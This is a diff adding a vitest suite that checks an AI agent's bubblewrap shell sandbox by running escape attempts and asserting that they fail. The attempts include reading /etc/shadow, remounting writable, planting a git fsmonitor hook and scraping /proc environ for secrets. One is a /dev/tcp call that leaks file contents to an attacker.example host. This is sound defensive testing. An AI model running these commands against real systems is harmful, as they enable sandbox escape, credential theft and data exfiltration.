@@ -1,0 +1,215 @@
+import { execFileSync } from "node:child_process";
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import type { SandboxMode } from "../../src/sandbox/plan.js";
+import { detectSandbox } from "../../src/sandbox/sandbox.js";
+import { shellTool } from "../../src/tools/builtin/shell.js";
+import type { ToolResult } from "../../src/tools/tool.js";
+
+/* The launcher, tested by running real commands under real bubblewrap and looking at the disk after. */
+
+const CANARY = `canary-${process.pid}-${Date.now().toString(36)}`;
+let root: string;
+let ws: string;
+let outside: string;
+beforeEach(() => {
+  root = mkdtempSync(join(tmpdir(), "troupe-sandbox-"));
+  ws = join(root, "ws");
+  outside = join(root, "outside");
+  for (const dir of ["ws/src", "ws/vendor/lib/.git", "ws/.troupe", "ws/config", "ws/.data", "outside"])
+    mkdirSync(join(root, dir), { recursive: true });
+  writeFileSync(join(ws, "src/a.txt"), "alpha\n");
+  writeFileSync(join(ws, "vendor/lib/.git/config"), "[core]\n");
+  writeFileSync(join(ws, ".troupe/settings"), "kept\n");
+  writeFileSync(join(ws, "config/troupe.yaml"), "defaultAgent: x\n");
+  writeFileSync(join(ws, ".data/creds"), CANARY);
+  writeFileSync(join(outside, "secret.txt"), `${CANARY}\n`);
+  git("init", "-q");
+  git("-c", "user.email=t@t", "-c", "user.name=t", "commit", "-q", "--allow-empty", "-m", "first");
+});
+afterEach(() => rmSync(root, { recursive: true, force: true }));
+
+function git(...args: string[]) {
+  execFileSync("git", args, {
+    cwd: ws,
+    env: { PATH: process.env.PATH, HOME: root, GIT_CONFIG_NOSYSTEM: "1" },
+  });
+}
+
+async function run(
+  mode: SandboxMode,
+  command: string,
+  options: { network?: boolean; timeoutMs?: number } = {},
+): Promise<ToolResult> {
+  const tool = shellTool({
+    sandbox: detectSandbox(),
+    parentEnv: { ...process.env, TROUPE_TEST_CANARY: CANARY },
+    protectedDirs: [join(ws, "config")],
+    hiddenDirs: [join(ws, ".data")],
+  });
+  return tool.execute(
+    { command, timeout_ms: options.timeoutMs ?? 10_000 },
+    {
+      signal: new AbortController().signal,
+      callId: "c",
+      runId: "r",
+      agentId: "a",
+      workspace: ws,
+      sandbox: { mode, network: options.network ?? false },
+    },
+  ) as Promise<ToolResult>;
+}
+
+describe("read-only", () => {
+  it("reads the workspace and runs git, but writes nothing there", async () => {
+    const result = await run(
+      "read-only",
+      "cat src/a.txt && git status >/dev/null && git log --oneline | wc -l",
+    );
+    expect(result).toEqual({ ok: true, output: "alpha\n1\n" });
+    const write = await run("read-only", "touch src/new.txt; echo x >> src/a.txt; mkdir made; git tag t1");
+    expect(write.output).toContain("Read-only file system");
+    expect(existsSync(join(ws, "src/new.txt")) || existsSync(join(ws, "made"))).toBe(false);
+    expect(readFileSync(join(ws, "src/a.txt"), "utf8")).toBe("alpha\n");
+    expect(existsSync(join(ws, ".git/refs/tags/t1"))).toBe(false);
+  });
+
+  it("sees nothing outside the workspace and the system: not the files beside it, not a home directory", async () => {
+    const result = await run(
+      "read-only",
+      `cat ${join(outside, "secret.txt")} ../outside/secret.txt; ls /root /home ${root}; echo "home=$HOME"; ls -A "$HOME" | wc -l`,
+    );
+    expect(result.output).not.toContain(CANARY);
+    expect(result.output).toContain(`${join(outside, "secret.txt")}: No such file or directory`);
+    expect(result.output).toContain("ls: cannot access '/root': No such file or directory");
+    expect(result.output).toContain("home=/tmp/home\n0\n");
+  });
+
+  it("has a private /tmp, gone when the command ends", async () => {
+    const name = `troupe-private-${process.pid}`;
+    expect((await run("read-only", `echo x > /tmp/${name} && cat /tmp/${name}`)).output).toBe("x\n");
+    expect(existsSync(join(tmpdir(), name))).toBe(false);
+  });
+
+  it("keeps the parent's environment out: not in the command's, not in any /proc entry", async () => {
+    const result = await run(
+      "read-only",
+      "env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < $f; done; ls /proc | grep -c '^[0-9]'",
+    );
+    expect(result.ok).toBe(true);
+    expect(result.output).not.toContain(CANARY);
+    expect(result.output).not.toContain("vitest");
+    // Its own PID namespace: bubblewrap's init, bash, and what bash runs; nothing of the host.
+    expect(Number(result.output.trim().split("\n").at(-1))).toBeLessThan(8);
+  });
+
+  it("cannot undo the sandbox: no capability to remount the workspace writable, none to read /etc/shadow", async () => {
+    const result = await run(
+      "read-only",
+      `mount -o remount,bind,rw ${ws}; touch ${ws}/after-remount; cat /etc/shadow | wc -c; grep CapEff /proc/self/status`,
+    );
+    expect(existsSync(join(ws, "after-remount"))).toBe(false);
+    expect(result.output).toContain("CapEff:\t0000000000000000");
+    expect(result.output).not.toMatch(/root:[^:\n]*:\d+:/);
+  });
+});
+
+describe("workspace-write", () => {
+  it("writes the workspace, and never a .git, .troupe or the config dir at any depth", async () => {
+    const result = await run(
+      "workspace-write",
+      [
+        "echo made > src/new.txt",
+        "git tag t1",
+        `printf '[core]\\n\\tfsmonitor = "touch ${root}/MARKER; false"\\n' >> .git/config`,
+        "echo evil >> vendor/lib/.git/config",
+        "echo evil > .troupe/settings",
+        "echo evil > config/troupe.yaml",
+        "mv .git moved; rm -rf vendor/lib/.git",
+        "ls -A .data",
+      ].join("; "),
+    );
+    expect(readFileSync(join(ws, "src/new.txt"), "utf8")).toBe("made\n");
+    expect(result.output).toContain("Read-only file system");
+    expect(existsSync(join(ws, ".git/refs/tags/t1"))).toBe(false);
+    expect(readFileSync(join(ws, ".git/config"), "utf8")).not.toContain("fsmonitor");
+    expect(readFileSync(join(ws, "vendor/lib/.git/config"), "utf8")).toBe("[core]\n");
+    expect(readFileSync(join(ws, ".troupe/settings"), "utf8")).toBe("kept\n");
+    expect(readFileSync(join(ws, "config/troupe.yaml"), "utf8")).toBe("defaultAgent: x\n");
+    expect(existsSync(join(ws, ".git/HEAD"))).toBe(true);
+    expect(existsSync(join(ws, "moved"))).toBe(false);
+    // The data dir inside the workspace is hidden: an empty directory.
+    expect(result.output).not.toContain("creds");
+    git("status");
+    expect(existsSync(join(root, "MARKER"))).toBe(false);
+  });
+
+  it("cannot write outside the workspace", async () => {
+    // What is beside the workspace is not there at all; the directories above it are the sandbox's own.
+    const result = await run("workspace-write", `echo evil > ${join(outside, "secret.txt")}; touch ../new`);
+    expect(result.output).toContain("No such file or directory");
+    expect(readFileSync(join(outside, "secret.txt"), "utf8")).toBe(`${CANARY}\n`);
+    expect(existsSync(join(root, "new"))).toBe(false);
+  });
+
+  it("runs a project's own tests with npm", async () => {
+    writeFileSync(
+      join(ws, "package.json"),
+      JSON.stringify({ name: "p", version: "1.0.0", scripts: { test: "node check.js" } }),
+    );
+    writeFileSync(join(ws, "check.js"), "require('fs').writeFileSync('out.txt', 'tests ran');\n");
+    const result = await run("workspace-write", "npm test --silent");
+    expect(result.ok).toBe(true);
+    expect(readFileSync(join(ws, "out.txt"), "utf8")).toBe("tests ran");
+  });
+
+  it("leaves nothing running: a background process dies with the command", async () => {
+    const result = await run("workspace-write", "(sleep 0.5; touch late) > /dev/null 2>&1 & echo started");
+    expect(result.output).toBe("started\n");
+    await new Promise((resolve) => setTimeout(resolve, 1000));
+    expect(existsSync(join(ws, "late"))).toBe(false);
+  });
+
+  it("a timeout ends the whole sandbox", async () => {
+    const started = Date.now();
+    const result = await run("workspace-write", "sleep 1 && touch late", { timeoutMs: 200 });
+    expect(result.error).toBe("the command timed out after 200 ms and was killed");
+    expect(Date.now() - started).toBeLessThan(1000);
+    await new Promise((resolve) => setTimeout(resolve, 1200));
+    expect(existsSync(join(ws, "late"))).toBe(false);
+  });
+});
+
+describe("the network", () => {
+  let server: Server;
+  let port: number;
+  let connections = 0;
+  beforeAll(async () => {
+    server = createServer((socket) => {
+      connections++;
+      socket.end("hello from the host\n");
+    });
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    port = (server.address() as { port: number }).port;
+  });
+  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
+
+  it("is off by default: not even the host's loopback, and no name is resolved", async () => {
+    const before = connections;
+    const result = await run(
+      "workspace-write",
+      `cat < /dev/tcp/127.0.0.1/${port}; cat < /dev/tcp/$(cat src/a.txt).attacker.example/80; echo done`,
+    );
+    expect(result.output).not.toContain("hello from the host");
+    expect(result.output).toContain("done");
+    expect(connections).toBe(before);
+  });
+
+  it("is there when the call may use it", async () => {
+    const result = await run("read-only", `cat < /dev/tcp/127.0.0.1/${port}`, { network: true });
+    expect(result.output).toBe("hello from the host\n");
+  });
+});
